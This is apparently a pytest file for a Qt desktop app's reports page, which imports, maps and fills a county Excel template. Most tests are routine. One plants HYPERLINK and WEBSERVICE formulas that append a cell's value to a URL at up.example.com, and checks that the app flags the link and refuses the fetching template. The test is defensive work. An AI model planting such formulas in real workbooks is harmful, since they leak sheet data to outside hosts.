"""报表 on screen: the county's workbook taken in, picked and filled; files made aside; called off without a trace."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QAbstractButton, QFileDialog, QLabel, QWidget
from pytestqt.qtbot import QtBot

from hall_assistant.app import Hall
from hall_assistant.cases import desk
from hall_assistant.clock import DAY, SetClock, local_day
from hall_assistant.logbook.reports.making import Job
from hall_assistant.logbook.reports.records import CountyTemplate, templates
from hall_assistant.people.values import Actor
from tests.core.logbook.reports.books import SHEET, county_book, saved
from ui.context import Context
from ui.pages.reports.page import NOT_YOURS, ReportsPage

LEFT = Qt.MouseButton.LeftButton
Calm = Callable[[], None]
Show = Callable[..., QWidget]


@pytest.fixture
def page(context: Context, manager: Actor, hall: Hall, shown: Show, calm: Calm) -> ReportsPage:
    for _ in range(3):
        case, _changes = desk.begin(hall.store, by=manager)
        desk.note(hall.store, by=manager, case=case, text="卡停了")
    context.sign_in(manager)
    page = ReportsPage(context)
    page.resize(1200, 680)
    shown(page)
    calm()
    return page


def press(qtbot: QtBot, page: QWidget, beginning: str, calm: Calm) -> None:
    found = [one for one in page.findChildren(QAbstractButton) if one.objectName().startswith(beginning)]
    [button] = [one for one in found if one.isVisible()]
    assert button.isEnabled(), f"{beginning} cannot be pressed"
    qtbot.mouseClick(button, LEFT)
    calm()


def choose(page: ReportsPage, name: str) -> None:
    [item] = page.picking.choices.findItems(name, Qt.MatchFlag.MatchExactly)
    page.picking.choices.itemClicked.emit(item)


def stands(hall: Hall) -> list[CountyTemplate]:
    with hall.store.reading() as at:
        return templates(at)


def test_a_county_s_workbook_is_picked_once_and_filled_by_a_click(
    qtbot: QtBot, page: ReportsPage, hall: Hall, tmp_path: Path, calm: Calm, monkeypatch: pytest.MonkeyPatch
) -> None:
    sent, out = tmp_path / "县月报.xlsx", tmp_path / "填好.xlsx"
    sent.write_bytes(saved(county_book()))
    page.county.take_in(sent, None)
    calm()
    press(qtbot, page, "county_pick_", calm)
    view = page.picking
    view.sheet.setCurrentCell(2, 1)
    choose(page, "接待")
    view.sheet.setCurrentCell(3, 3)
    assert not view.choices.isEnabled(), "a formula works itself out"
    view.sheet.setCurrentCell(6, 0)
    view._kinds.setCurrentIndex(view._kinds.findData("days"))
    view._show_choices()
    choose(page, "日期")
    assert view._last.value() == 11, "up to the row above the sum"
    press(qtbot, page, "picking_save", calm)
    assert stands(hall)[0].picks == view.picking.picks
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *_words: (str(out), ""))
    with qtbot.waitSignal(page.making.changed, timeout=30_000):
        press(qtbot, page, "county_fill_", calm)
    qtbot.waitUntil(lambda: not page.making.busy, timeout=30_000)
    sheet = load_workbook(out)[SHEET]
    assert (sheet["B3"].value, sheet["B12"].value) == (3, "=SUM(B7:B11)")
    assert sheet["A7"].value is not None


def test_what_is_called_off_or_cannot_be_written_leaves_no_file(
    qtbot: QtBot, page: ReportsPage, context: Context, tmp_path: Path, calm: Calm
) -> None:
    first, last = page.days.days
    page.making.make(Job(first, last, "xlsx"), tmp_path / "月报.xlsx")
    press(qtbot, page, "report_stop", calm)
    assert not list(tmp_path.glob("*月报*"))
    with qtbot.waitSignal(context.said, timeout=30_000) as told:
        page.making.make(Job(first, last, "csv"), tmp_path / "没有" / "月报.csv")
    assert "写不进去" in told.args[0]


def test_a_file_that_is_no_workbook_is_told_and_nothing_is_kept(
    page: ReportsPage, hall: Hall, tmp_path: Path, calm: Calm
) -> None:
    bad = tmp_path / "坏的.xlsx"
    bad.write_bytes(b"PK no")
    page.county.take_in(bad, None)
    calm()
    told = page.findChild(QLabel, "county_told")
    assert told is not None
    assert "打不开" in told.text()
    assert not stands(hall)


def test_a_workbook_with_links_is_told_where_they_lead_and_one_that_fetches_is_not_kept(
    page: ReportsPage, hall: Hall, tmp_path: Path, calm: Calm
) -> None:
    told = page.findChild(QLabel, "county_told")
    assert told is not None
    for name, formula, said in (
        ("连着", '=HYPERLINK("http://up.example.com/?n="&B3)', "网页（up.example.com）"),
        ("取数", '=WEBSERVICE("http://up.example.com/?n="&B3)', "不收也不填"),
    ):
        book = county_book()
        book[SHEET]["E4"] = formula
        sent = tmp_path / f"{name}.xlsx"
        sent.write_bytes(saved(book))
        page.county.take_in(sent, None)
        calm()
        assert said in told.text() and told.isVisible()
    assert [one.name for one in stands(hall)] == ["连着"]


def test_a_clerk_is_told_whose_page_it_is(context: Context, clerk: Actor, shown: Show, calm: Calm) -> None:
    context.sign_in(clerk)
    page = ReportsPage(context)
    shown(page)
    calm()
    told = page.findChild(QLabel, "reports_told")
    assert told is not None
    assert told.text() == NOT_YOURS
    assert not page.figures.isVisible()


def test_a_month_left_open_over_night_goes_on_up_to_today(page: ReportsPage, hall: Hall, calm: Calm) -> None:
    clock = hall.clock
    assert isinstance(clock, SetClock)
    first, _last = page.days.days
    page.hide()
    clock.advance(DAY)
    page.show()
    calm()
    assert page.days.days == (first, local_day(clock.now(), clock.offset()))
    page.days.pick(first)
    page.hide()
    clock.advance(DAY)
    page.show()
    calm()
    assert page.days.days == (first, first), "days somebody chose stay"
